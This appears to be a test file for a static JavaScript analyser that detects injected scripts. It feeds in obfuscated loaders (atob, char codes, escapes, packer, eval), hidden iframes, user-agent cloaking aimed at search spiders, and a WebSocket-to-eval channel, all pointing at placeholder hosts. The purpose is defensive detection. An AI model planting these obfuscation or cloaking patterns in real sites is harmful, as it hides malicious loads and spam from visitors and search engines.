import { describe, expect, it } from 'vitest';
import { readJs } from '@/server/domain/web-code/read-document';
import { hiddenTargets } from '@/server/domain/web-code/script/hidden';
import {
  base64,
  charCodes,
  hexEscaped,
  pack,
  percentEscaped,
  unicodeEscaped,
} from '../../fixtures/inject-eval/kit';

const read = (code: string, nodes = 200_000) => {
  const budget = { nodes, cut: false };
  const doc = readJs(code, 'https://site.example/static/js/x.js', budget);
  return { loads: doc.loads, links: doc.links, cut: budget.cut };
};
const one = (code: string) => {
  const { loads } = read(code);
  expect(loads).toHaveLength(1);
  return loads[0]!;
};
const loader = (src: string) =>
  `(function(){var s=document.createElement('script');s.src=${src};document.head.appendChild(s);})();`;

describe('reading scripts without running them', () => {
  it.each([
    ['String.fromCharCode', charCodes('https://a.example/x.js'), 'fromCharCode'],
    ['atob', `atob('${base64('https://a.example/x.js')}')`, 'atob'],
    ['unescape', `unescape('${percentEscaped('https://a.example/x.js')}')`, 'unescape'],
    ['\\x escapes', `'${hexEscaped('https://a.example/x.js')}'`, 'hex'],
    ['\\u escapes', `'${unicodeEscaped('https://a.example/x.js')}'`, 'unicode'],
    ['split, reverse and join', `'sj.x/elpmaxe.a//:sptth'.split('').reverse().join('')`, 'concatenation'],
    ['an array joined', `['https://','a.exam','ple/x.js'].join('')`, 'concatenation'],
    [
      'map over character codes',
      `[104,116,116,112,115,58,47,47,97,46,101,120,97,109,112,108,101,47,120,46,106,115].map(function(c){return String.fromCharCode(c)}).join('')`,
      'fromCharCode',
    ],
    [
      'variables built piece by piece',
      `(function(){var a='htt';a+='ps://a.';var b=a+'example/x.js';return b})()`,
      '',
    ],
  ])('decodes an address built with %s and names how it was hidden', (_name, expr, how) => {
    const code = expr.startsWith('(function') ? `var u=${expr};${loader('u')}` : loader(expr);
    const load = one(code);
    expect(load.url).toBe('https://a.example/x.js');
    expect(load).toMatchObject({ kind: 'script', how: 'js-element', byCode: true });
    if (how) expect(load.dec).toContain(how);
  });

  it('reads the code that eval, setTimeout and the packer would run, one level deeper each', () => {
    const inner = `document.write('<iframe src="https://b.example/" width="0" height="0"></iframe>')`;
    for (const code of [
      `eval(atob('${base64(inner)}'))`,
      `setTimeout(${JSON.stringify(inner)}, 100)`,
      pack(inner),
    ]) {
      const load = one(code);
      expect(load).toMatchObject({
        url: 'https://b.example/',
        kind: 'iframe',
        how: 'document-write',
        hidden: true,
      });
      expect(load.dec).toContain('eval');
    }
    expect(one(pack(inner)).dec).toContain('packer');
    // eval('window')['\x64…'] is window.document, however it is spelled.
    const hidden = one(
      `eval('window')['${hexEscaped('document')}']['${hexEscaped('write')}']('<script src="https://c.example/j.js"></scr'+'ipt>')`,
    );
    expect(hidden.url).toBe('https://c.example/j.js');
    expect(hidden.dec).toEqual(expect.arrayContaining(['eval', 'hex']));
  });

  it('records redirects, windows, jQuery loads and markup written by code, with links in it', () => {
    const { loads, links } = read(`top.location.href='https://d.example/';window.open('https://e.example/');
location.replace('https://f.example/');$.getScript('https://g.example/s.js');
document.body.innerHTML='<iframe src="https://h.example/"></iframe>';
document.write('<div style="display:none"><a href="https://i.example/">i</a></div>');`);
    expect(loads.map((l) => `${l.how} ${l.url}`)).toEqual([
      'js-location https://d.example/',
      'window-open https://e.example/',
      'js-location https://f.example/',
      'get-script https://g.example/s.js',
      'document-write https://h.example/',
    ]);
    expect(links).toEqual([expect.objectContaining({ url: 'https://i.example/', hidden: true })]);
  });

  it('tells markup written for search spiders only from markup kept from them', () => {
    const forSpiders = (code: string) =>
      read(`var ua=navigator.userAgent;${code}`).links.map((l) => l.forSpiders ?? false);
    const w = `document.write('<a href="https://l.example/">l</a>')`;
    expect(forSpiders(`if(/baiduspider|googlebot/i.test(ua)){${w}}`)).toEqual([true]);
    expect(forSpiders(`if(ua.indexOf('spider')>-1&&location.pathname=='/'){${w}}`)).toEqual([true]);
    expect(forSpiders(`var b=-1!=ua.indexOf('Bot');b&&${w}`)).toEqual([true]);
    expect(forSpiders(`function human(){return !/spider|bot/i.test(ua)}if(human()){}else{${w}}`)).toEqual([
      true,
    ]);
    expect(forSpiders(`!/spider/i.test(ua)||${w}`)).toEqual([true]);
    // The other side of each test, or a test that lets others through too.
    expect(forSpiders(`if(!/spider|bot/i.test(ua)){${w}}`)).toEqual([false]);
    expect(forSpiders(`if(ua.indexOf('spider')==-1){${w}}`)).toEqual([false]);
    expect(forSpiders(`if(/spider/i.test(ua)){}else{${w}}`)).toEqual([false]);
    expect(forSpiders(`if(/spider/i.test(ua)||/iphone/i.test(ua)){${w}}`)).toEqual([false]);
    expect(forSpiders(`if(document.body.className.indexOf('bottom')>-1){${w}}`)).toEqual([false]);
    expect(forSpiders(`var bot=document.getElementById('bottom');if(bot){${w}}`)).toEqual([false]);
  });

  it('follows spider tests written the long way: flags, lists, helpers with early returns, switch (true)', () => {
    const forSpiders = (code: string) =>
      read(`var ua=navigator.userAgent;${code}`).links.map((l) => l.forSpiders ?? false);
    const w = `document.write('<a href="https://l.example/">l</a>')`;
    const list = `var l=['Baiduspider','Googlebot']`;
    // Flags set behind a test, compared or not.
    expect(forSpiders(`var s=false;if(/bot/i.test(ua))s=true;if(s){${w}}`)).toEqual([true]);
    expect(forSpiders(`var s=0;if(/bot/i.test(ua)){s=1}if(s==1){${w}}`)).toEqual([true]);
    expect(forSpiders(`var s=true;if(/bot/i.test(ua))s=false;if(!s){${w}}`)).toEqual([true]);
    // Other spellings of the test.
    expect(forSpiders(`if(ua.match(/baiduspider/i)!=null){${w}}`)).toEqual([true]);
    expect(forSpiders(`if(/baiduspider/i.exec(ua)){${w}}`)).toEqual([true]);
    expect(forSpiders(`if(~ua.indexOf('spider')){${w}}`)).toEqual([true]);
    expect(forSpiders(`var re=new RegExp(['spider','bot'].join('|'),'i');if(re.test(ua)){${w}}`)).toEqual([
      true,
    ]);
    // A list of spider names.
    expect(forSpiders(`${list};if(l.some(function(b){return ua.indexOf(b)>-1})){${w}}`)).toEqual([true]);
    expect(
      forSpiders(`${list};var f=false;for(var i=0;i<l.length;i++){if(ua.indexOf(l[i])!=-1){f=true}}f&&${w}`),
    ).toEqual([true]);
    // Helpers answering with constants.
    expect(
      forSpiders(`function isB(){if(/spider/i.test(ua))return true;return false}if(isB()){${w}}`),
    ).toEqual([true]);
    expect(forSpiders(`function h(){if(/spider/i.test(ua)){return false}return true}if(!h()){${w}}`)).toEqual(
      [true],
    );
    expect(
      forSpiders(
        `function c(){try{${list};for(var i=0;i<l.length;i++){if(ua.indexOf(l[i])>-1)return !0}}catch(e){return !1}return !1}c()&&${w}`,
      ),
    ).toEqual([true]);
    expect(
      forSpiders(`function c(){var f=false;if(/spider/i.test(ua)){f=true}return f}if(c()){${w}}`),
    ).toEqual([true]);
    expect(forSpiders(`var c=function(){return /spider/i.test(ua)};if(c()){${w}}`)).toEqual([true]);
    expect(
      forSpiders(`switch(true){case /iphone/i.test(ua):break;case /spider/i.test(ua):${w};break}`),
    ).toEqual([true]);
    // The other side, a case others fall into, a helper that answers the same for everyone.
    expect(forSpiders(`var s=false;if(/bot/i.test(ua))s=true;if(!s){${w}}`)).toEqual([false]);
    expect(forSpiders(`var s=true;if(/bot/i.test(ua))s=false;if(s){${w}}`)).toEqual([false]);
    expect(forSpiders(`function h(){if(/spider/i.test(ua)){return false}return true}if(h()){${w}}`)).toEqual([
      false,
    ]);
    expect(forSpiders(`function c(){if(/spider/i.test(ua))return 1;return 1}if(c()){${w}}`)).toEqual([false]);
    expect(forSpiders(`switch(true){case /iphone/i.test(ua):case /spider/i.test(ua):${w}}`)).toEqual([false]);
    expect(
      forSpiders(
        `var l=['bottom','top'];if(l.some(function(b){return document.body.className.indexOf(b)>-1})){${w}}`,
      ),
    ).toEqual([false]);
  });

  it('follows the less-used doors: a created form submitted, location.host, navigation.navigate, srcdoc', () => {
    const loads = (code: string) => read(code).loads.map((l) => `${l.kind} ${l.url} ${l.how}`);
    const form = `var f=document.createElement('form');f.action='https://e.example/p';document.body.appendChild(f);`;
    expect(loads(`${form}f.submit()`)).toEqual(['navigate https://e.example/p form']);
    expect(
      loads(
        form.replace("f.action='https://e.example/p'", "f.setAttribute('action','https://e.example/p')") +
          'f.requestSubmit()',
      ),
    ).toEqual(['navigate https://e.example/p form']);
    expect(loads(`location.host='e.example'`)).toEqual(['navigate https://e.example/ js-location']);
    expect(loads(`navigation.navigate('https://e.example/')`)).toEqual([
      'navigate https://e.example/ js-location',
    ]);
    const frame = `var f=document.createElement('iframe');`;
    const doc = `'<script src="https://e.example/a.js"><\\/script>'`;
    expect(loads(`${frame}f.srcdoc=${doc};document.body.appendChild(f)`)).toEqual([
      'script https://e.example/a.js document-write',
    ]);
    expect(loads(`${frame}f.setAttribute('srcdoc',${doc});document.body.appendChild(f)`)).toEqual([
      'script https://e.example/a.js document-write',
    ]);
    // A form never submitted, a host worked out from the current one: no navigation known.
    expect(loads(form)).toEqual([]);
    expect(loads(`location.hostname=location.hostname.replace('www.','m.')`)).toEqual([]);
  });

  it('reads every spelling of hiding, removing or emptying an element, and what undoes it', () => {
    const hidden = (code: string) => [
      ...hiddenTargets(
        readJs(code, 'https://site.example/x.js', { nodes: 200_000, cut: false }).acts,
        new Set(['zc']),
      ),
    ];
    for (const code of [
      `$('#a').attr('style','display:none')`,
      `$('#a').css({display:'none'})`,
      `$(document.getElementById('a')).fadeOut()`,
      `document.querySelector('#a').setAttribute('hidden','')`,
      `document.getElementById('a').hidden=true`,
      `var a=document.getElementById('a');a.parentNode.removeChild(a)`,
      `document.getElementById('a').innerHTML=''`,
      `document.getElementById('a').style.setProperty('visibility','hidden')`,
      `$('#a').attr('class','zc')`,
    ])
      expect({ code, hidden: hidden(code) }).toEqual({ code, hidden: ['#a'] });
    expect(
      hidden(`$('.b').remove();document.querySelectorAll('.c').forEach(function(e){e.style.display='none'})`),
    ).toEqual(['.b', '.c']);
    // Showing undoes the same kind of hiding only: a block hidden then given a size stays hidden.
    expect(hidden(`$('#a').hide();$('#a').css('width','100%')`)).toEqual(['#a']);
    expect(hidden(`$('#a').attr('class','zc');document.getElementById('a').style.height='80px'`)).toEqual([
      '#a',
    ]);
    // Shown again (even later, on a click), filled again by code, or hidden only on a click: not hidden.
    for (const code of [
      `$('#a').hide().fadeIn()`,
      `$('.a').hide().eq(0).show()`,
      `$('#a').hide();$('#m').click(function(){$('#a').show()})`,
      `var b=document.getElementById('a');b.innerHTML='';setTimeout(function(){b.appendChild(document.createElement('a'))},100)`,
      `document.getElementById('x').onclick=function(){$('#a').remove()}`,
      `$('#a').fadeTo(300,0.8);$('#a').css('color','red');document.getElementById('a').hidden=false`,
    ])
      expect({ code, hidden: hidden(code) }).toEqual({ code, hidden: [] });
  });

  it('records the classes a script gives page elements as the page loads, not when a button is clicked', () => {
    const classed = (code: string) =>
      readJs(code, 'https://site.example/x.js', { nodes: 200_000, cut: false }).acts;
    expect(
      classed(
        `document.getElementById('a').className='x y';document.getElementById('b').classList.add('z','w');$('#c').addClass('v');document.getElementById('d').setAttribute('class','u')`,
      ),
    ).toEqual([
      { target: '#a', act: 'class', classes: ['x', 'y'] },
      { target: '#b', act: 'class', classes: ['z', 'w'] },
      { target: '#c', act: 'class', classes: ['v'] },
      { target: '#d', act: 'class', classes: ['u'] },
    ]);
    expect(
      classed(
        `document.getElementById('x').onclick=function(){document.getElementById('a').className='hide'}`,
      ),
    ).toEqual([]);
    // What a script file hides by id is kept for the pages that load it (scan-site.ts).
    const file = readJs(
      `$(function(){var f=document.getElementById('flk');if(f){f.style.display='none'}})`,
      'https://site.example/c.js',
      { nodes: 200_000, cut: false },
    );
    expect(file.acts).toEqual([{ target: '#flk', act: 'hide', kinds: ['display'] }]);
    // A handler property runs on load for a load, or for any click on the whole page; not for one button.
    const go = `function(){location.href='https://r.example/'}`;
    expect(one(`document.getElementById('btn').onclick=${go}`).deferred).toBe(true);
    expect(one(`document.onclick=${go}`).deferred).toBe(false);
    expect(one(`var i=new Image();i.onload=${go}`).deferred).toBe(false);
  });

  it('knows which visitors a redirect is for, and whether it runs on load or only when called', () => {
    const gated = one(`var ua=navigator.userAgent.toLowerCase();function isSpider(){return /spider/.test(ua)}
if(!isSpider()&&/iphone|android/.test(ua)){location.href='https://m.example/'}`);
    expect(gated.gates).toEqual(['userAgent']);
    expect(gated.deferred).toBe(false);
    expect(
      one(`if(document.referrer.indexOf('baidu')>-1)window.location='https://r.example/'`).gates,
    ).toEqual(['referrer']);
    const click = one(
      `$('.download').on('click',function(){if(navigator.userAgent.indexOf('MSIE')>0)window.open('https://x.example/')})`,
    );
    expect(click.deferred).toBe(true);
    expect(
      one(`document.addEventListener('click',function(){window.open('https://p.example/')},{once:true})`)
        .deferred,
    ).toBe(false);
    expect(one(`var MAC={Go:function(){location.href='https://q.example/'}}`).deferred).toBe(true);
  });

  it.each([
    ['.call', `location.assign.call(location,'https://n.example/')`],
    ['.apply', `location.replace.apply(location,['https://n.example/'])`],
    ['.bind', `var go=location.replace.bind(location);go('https://n.example/')`],
    ['Reflect.get', `Reflect.get(window,'location').href='https://n.example/'`],
    ['Reflect.apply', `Reflect.apply(location.replace,location,['https://n.example/'])`],
    ['eval.call', `window.eval.call(window,"top.location.href='https://n.example/'")`],
    [
      "a created script's text",
      `var s=document.createElement('script');s.text="location.href='https://n.example/'"`,
    ],
    [
      'a created meta refresh',
      `var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=https://n.example/'`,
    ],
  ])('follows a redirect reached through %s', (_name, code) => {
    expect(one(code)).toMatchObject({ url: 'https://n.example/', kind: 'navigate' });
  });

  it('reads scripts made without a src assignment and the newer carriers', () => {
    expect(
      one(
        `document.body.append(Object.assign(document.createElement('script'),{src:'https://o.example/o.js'}))`,
      ),
    ).toMatchObject({ url: 'https://o.example/o.js', kind: 'script' });
    expect(
      one(
        `var cs=[${[...'https://o.example/s.js'].map((c) => c.charCodeAt(0))}];var s=document.createElement('script');s.src=String.fromCharCode(...cs)`,
      ).url,
    ).toBe('https://o.example/s.js');
    expect(
      one(
        `const {atob:d}=window;var s=document.createElement('script');s.src=d('${base64('https://o.example/d.js')}')`,
      ).dec,
    ).toContain('atob');
    expect(one(`navigator.serviceWorker.register('/sw.js')`).url).toBe('https://site.example/sw.js');
    expect(one(`importScripts('https://o.example/w.js')`).url).toBe('https://o.example/w.js');
    // A socket's messages run as code: its host serves the script; parsed as JSON, nothing loads.
    expect(
      one(`var ws=new WebSocket('wss://o.example/c');ws.onmessage=function(e){(0,eval)(e.data)}`).url,
    ).toBe('https://o.example/c');
    expect(
      read(`var ws=new WebSocket('wss://o.example/c');ws.onmessage=function(e){JSON.parse(e.data)}`).loads,
    ).toEqual([]);
    expect(read(`var m=document.createElement('meta');m.httpEquiv='refresh';m.content='600'`).loads).toEqual(
      [],
    );
  });

  it.each([
    ['destructuring', `const {referrer:r}=document;if(/baidu/.test(r))`, 'referrer'],
    ['a built property name', `var d=document,k='refe'+'rrer';if(/baidu/.test(d[k]))`, 'referrer'],
    [
      'a neutral variable name',
      `var nv=navigator,k='user'+'Agent',x=nv[k];if(/iphone/i.test(x))`,
      'userAgent',
    ],
    ['getUTCHours', `var bj=(new Date().getUTCHours()+8)%24;if(bj<6)`, 'time'],
    ['Date.now', `if(Date.now()>1700000000000)`, 'time'],
    ['localStorage', `if(!localStorage.getItem('_fv'))`, 'storage'],
  ])('sees a visitor test made through %s', (_name, test, kind) => {
    expect(one(`${test}{location.href='https://g.example/'}`).gates).toEqual([kind]);
  });

  it('leaves addresses that depend on run time unknown instead of guessing', () => {
    const { loads } =
      read(`location.href='//'+location.host+'/x.js';var s=document.createElement('script');s.src=maccms.path+'/static/js/a.js';
window.location.href=location.href.replace(maccms.url,maccms.wapurl);document.write('<scr'+'ipt src="'+this.Path+'.js"></scr'+'ipt>');`);
    expect(loads.filter((l) => !l.url.startsWith('https://site.example/'))).toEqual([]);
  });

  it('never runs what it reads, and stops at its budget on a huge script', () => {
    expect(
      read('while(true){}var s=document.createElement("script");s.src="https://z.example/";').loads,
    ).toHaveLength(1);
    const huge = Array.from({ length: 20_000 }, (_, i) => `var v${i}=${i}+1;`).join('\n');
    const { cut } = read(`${huge}\nlocation.href='https://late.example/';`, 10_000);
    expect(cut).toBe(true);
    // Strings that double on every line stop at the budget of characters built.
    expect(read(`var a='xxxxxxxxxx';${'a=a+a;'.repeat(50_000)}`, 10_000_000).cut).toBe(true);
  });
});
